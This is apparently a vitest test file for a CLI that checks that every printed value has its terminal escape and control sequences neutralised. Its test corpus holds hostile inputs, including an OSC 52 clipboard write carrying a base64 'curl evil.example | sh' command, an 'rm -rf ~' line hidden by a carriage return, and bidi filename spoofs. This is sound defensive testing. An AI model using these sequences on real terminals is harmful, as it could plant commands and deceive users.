import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { terminalSafe, terminalSafeJson } from '../../../main/cli/terminal-text.js';
import { byAssistantCount, startScriptedServer, type ScriptedServer } from '../../fixtures/scripted-openai-server.js';
import { trustForTests } from '../trust/trust-for-tests.js';
import { firstUnsafe, inPrivateKeyring, runCli } from './spawn-cli.js';

/**
 * Escape and control sequences a page, a tool, a model or a catalog file could try to send to
 * the person's terminal. Each must arrive as visible text, never raw.
 */
const CORPUS: [name: string, text: string][] = [
  ['clear screen', '\u001b[2J'],
  ['home, clear, clear scrollback', '\u001b[H\u001b[2J\u001b[3J'],
  ['full reset (RIS)', '\u001bc'],
  ['alternate screen', '\u001b[?1049h'],
  ['fake status line: cursor up, erase line', 'done\u001b[1A\u001b[2K\u001b[32mOK all checks passed\u001b[0m'],
  ['SGR colour', '\u001b[31mred\u001b[0m'],
  ['OSC 0 title ended by BEL', '\u001b]0;pwned title\u0007'],
  ['OSC 2 title ended by ST', '\u001b]2;pwned\u001b\\'],
  ['OSC 52 clipboard write', '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'],
  ['OSC 8 hyperlink', '\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\'],
  ['device status report (answer injected as input)', '\u001b[6n'],
  ['title report (answerback)', '\u001b[21t'],
  ['DCS request', '\u001bP$q"p\u001b\\'],
  ['APC', '\u001b_apc payload\u001b\\'],
  ['PM', '\u001b^pm payload\u001b\\'],
  ['C1 CSI (0x9b)', '\u009b31mC1 red'],
  ['C1 OSC (0x9d) and ST (0x9c)', '\u009d0;c1 title\u009c'],
  ['C1 DCS (0x90)', '\u0090payload\u009c'],
  ['lone carriage return overwrites the line', 'rm -rf ~ \rls -la     '],
  ['carriage return then erase', 'secret\r\u001b[K'],
  ['backspaces', 'safe\b\b\b\bEVIL'],
  ['bell', 'ding\u0007'],
  ['NUL', 'nul\u0000byte'],
  ['DEL', 'del\u007fete'],
  ['vertical tab and form feed', 'a\u000bb\u000cc'],
  ['shift out / shift in', '\u000egraphics\u000f'],
  ['RLO bidi override', 'invoice\u202Efdp.exe'],
  ['LRO, PDF', '\u202Dforced\u202C'],
  ['LRE, RLE', '\u202Aa\u202Bb\u202C'],
  ['LRI, RLI, FSI, PDI isolates', '\u2066x\u2067y\u2068z\u2069'],
];

/** A Lua string literal for `text` (decimal escapes for ASCII controls, \u{...} above ASCII). */
function luaString(text: string): string {
  let out = '"';
  for (const char of text) {
    const code = char.codePointAt(0)!;
    if (char === '"' || char === '\\') out += `\\${char}`;
    else if (code < 0x20 || code === 0x7f) out += `\\${code}`;
    else if (code > 0x7e) out += `\\u{${code.toString(16)}}`;
    else out += char;
  }
  return `${out}"`;
}

/** JSON with every non-ASCII character escaped: valid YAML with no raw control character in the file. */
function asciiJson(value: unknown): string {
  return JSON.stringify(value, null, 2).replace(
    /[\u007f-\uffff]/g,
    (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`,
  );
}

const joined = CORPUS.map(([, text]) => text).join(' | ');
const modelReply = `model says ${joined}`;
const evilAlias = 'evil\u001b]0;alias title\u0007\u009b2J';

function workspace(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'pf-term-'));
  writeFileSync(path.join(dir, 'corpus.json'), JSON.stringify(CORPUS.map(([, text]) => text)));
  writeFileSync(
    path.join(dir, 'loud.mjs'),
    `import { readFileSync } from 'node:fs';\nprocess.stdout.write(JSON.parse(readFileSync('corpus.json', 'utf8')).join(' | '));\n`,
  );
  writeFileSync(
    path.join(dir, 'tools.yaml'),
    asciiJson({
      loud: {
        kind: 'command',
        command: ['node', 'loud.mjs'],
        description: 'prints the corpus',
        approval: 'auto',
        parameters: { type: 'object' },
      },
      asky: {
        kind: 'builtin',
        builtin: 'echo',
        description: `asks first ${joined}`,
        approval: 'ask',
      },
      [evilAlias]: { kind: 'builtin', builtin: 'echo' },
      badkind: { kind: `nope${joined}` },
      search: {
        kind: 'http',
        url: 'http://127.0.0.1:9/',
        headers: {
          Authorization: { secret: 'proxy\u009b2J\u202e' },
          'X-Other': { secret: 'ctl\u001b]0;t\u0007' },
        },
      },
    }),
  );
  const corpus = `local corpus = {\n${CORPUS.map(([, text]) => `  ${luaString(text)},`).join('\n')}\n}`;
  writeFileSync(
    path.join(dir, 'attack.lua'),
    `${corpus}
for i, s in ipairs(corpus) do log('log ' .. i .. ': ' .. s) end
for i, s in ipairs(corpus) do log('echo ' .. i .. ': ' .. tools.call('echo', { text = s })) end
log('loud: ' .. tools.call('loud', {}))
log('asked: ' .. tools.call('asky', { text = table.concat(corpus, ' ') }))
local reply = models.chat({ { role = 'user', content = 'hi' } })
log('model: ' .. reply.content)
log(select(2, pcall(tools.call, ${luaString(evilAlias)}, { text = 'x' })))
error('fatal: ' .. table.concat(corpus, ' | '))
`,
  );
  return dir;
}

describe('everything the CLI prints is terminal-safe (real CLI process)', () => {
  let server: ScriptedServer;
  let dir: string;
  beforeAll(async () => {
    server = await startScriptedServer(byAssistantCount([{ content: modelReply }]));
    dir = workspace();
    // Its command tool and http tool secrets run only in a trusted workspace.
    await trustForTests(dir);
  });
  afterAll(() => server.close());

  it('log(), error(), tool output, an alias, a catalog description and problems, a model reply', async () => {
    const result = await runCli(
      ['run', 'attack.lua', '--base-url', `${server.url}/v1`, '--model-id', 'm', '--approve', 'ask'],
      { cwd: dir, stdin: 'a\n' },
    );
    expect(result.code, result.stderr).toBe(1);
    expect(firstUnsafe(result.stdout), 'stdout').toBeUndefined();
    expect(firstUnsafe(result.stderr), 'stderr').toBeUndefined();

    const stdout = result.stdout.split('\n');
    for (const [index, [name, text]] of CORPUS.entries()) {
      // Each attack arrives as visible text through log() and through a tool's output.
      expect(stdout, name).toContain(`log ${index + 1}: ${terminalSafe(text)}`);
      expect(stdout, name).toContain(`echo ${index + 1}: ${terminalSafe(text)}`);
    }
    expect(stdout).toContain(`loud: ${terminalSafe(joined)}`);
    expect(stdout).toContain(`model: ${terminalSafe(modelReply)}`);
    expect(result.stdout).toContain('\\x1b]52;c;');
    expect(result.stdout).toContain('\\x9b31m');
    expect(result.stdout).toContain('\\u202e');
    expect(result.stdout).toContain('rm -rf ~ \\x0dls -la');
    // The alias in an error message (shown as every name is, \u{..}), the approval prompt's description, catalog problems, error().
    expect(result.stdout).toContain('evil\\u{1b}]0;alias title\\u{7}\\u{9b}2J');
    expect(result.stderr).toContain(`asks first ${terminalSafe(joined)}`);
    expect(result.stderr).toContain('nul\\x00byte');
    expect(result.stderr).toMatch(/^tools\.yaml:\d+:\d+: error: tool alias "evil\\x1b\]0;alias title\\x07\\x9b2J"/m);
    expect(result.stderr).toMatch(/^tools\.yaml:\d+:\d+: error: .*badkind/m);
    expect(result.stderr).toMatch(/^attack\.lua:\d+: fatal: /m);
    expect(result.stderr).toContain(`fatal: ${terminalSafe(joined)}`);
  }, 60_000);

  it('--json keeps every value exact and the line free of raw controls (C1 and bidi included)', async () => {
    const result = await runCli(
      ['run', 'attack.lua', '--base-url', `${server.url}/v1`, '--model-id', 'm', '--approve', 'auto', '--json'],
      { cwd: dir },
    );
    expect(result.code, result.stderr).toBe(1);
    expect(firstUnsafe(result.stdout), 'stdout').toBeUndefined();
    expect(firstUnsafe(result.stderr), 'stderr').toBeUndefined();
    const events = result.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { type: string; text?: string });
    const logs = events.flatMap((event) => (event.type === 'log' ? [event.text] : []));
    for (const [index, [name, text]] of CORPUS.entries()) expect(logs, name).toContain(`log ${index + 1}: ${text}`);
    expect(logs).toContain(`model: ${modelReply}`);
    expect(events.at(-1)).toMatchObject({ type: 'run-end', status: 'error' });
  }, 60_000);
});

describe('command-line arguments echoed in usage errors are made safe too', () => {
  it.each([
    [['\u001b]0;title\u0007'], 'unknown command "\\u{1b}]0;title\\u{7}"'],
    [['run', 'no\u009b2J\u202e.lua'], 'no\\x9b2J\\u202e.lua: no such script file'],
    [['run', 'attack.lua', '--approve', '\u001b[2J'], '--approve must be ask, auto or deny, got "\\x1b[2J"'],
    [['run', 'attack.lua', '--model', 'm\r\u001b[K'], 'unknown model "m\\u{d}\\u{1b}[K" (from --model)'],
    [['keys', 'set', 'x\u001b[2J'], '"x\\u{1b}[2J" is not a provider id'],
    [['help', '\u001bc'], 'no help for "\\x1bc"'],
  ])(
    'usage error %#',
    async (args, shown) => {
      const result = await runCli(args, { cwd: workspace() });
      expect(result.code).toBe(2);
      expect(firstUnsafe(result.stdout + result.stderr)).toBeUndefined();
      expect(result.stderr).toContain(shown);
    },
    60_000,
  );
});

describe('keys status with secret names full of escapes (real keychain)', () => {
  it('prints each name made safe, and a name the keychain refuses as one clear line', async () => {
    const dir = workspace();
    const home = mkdtempSync(path.join(tmpdir(), 'pf-term-home-'));
    const result = await runCli(['keys', 'status'], { cwd: dir, ...inPrivateKeyring(home) });
    expect(result.code, result.stderr).toBe(0);
    expect(firstUnsafe(result.stdout), 'stdout').toBeUndefined();
    expect(firstUnsafe(result.stderr), 'stderr').toBeUndefined();
    // Each secret is the workspace's own for its destination (see main/core/trust/secret-scope.ts).
    expect(result.stdout).toMatch(
      /^proxy\\x9b2J\\u202e@http:\/\/127\.0\.0\.1:9\s+not set \(used by search \(header Authorization\)\)$/m,
    );
    expect(result.stdout).toMatch(
      /^ctl\\x1b\]0;t\\x07@http:\/\/127\.0\.0\.1:9\s+cannot be read: invalid secret name .* \(used by search \(header X-Other\)\)$/m,
    );
    expect(result.stderr).not.toContain('internal error');
  }, 60_000);
});

describe('terminalSafe and terminalSafeJson', () => {
  it('escape every attack and keep ordinary text, tabs, newlines and CRLF', () => {
    for (const [name, text] of CORPUS) {
      expect(firstUnsafe(terminalSafe(text)), name).toBeUndefined();
      expect(firstUnsafe(terminalSafeJson({ text })), name).toBeUndefined();
      expect(JSON.parse(terminalSafeJson({ text })), name).toEqual({ text });
    }
    const plain = 'naïve café — 東京 שלום مرحبا 🙂\tcol\nnext\r\nline \\x1b stays';
    expect(terminalSafe(plain)).toBe(plain);
    expect(terminalSafe('\u001b[2J\r\u202e')).toBe('\\x1b[2J\\x0d\\u202e');
  });
});
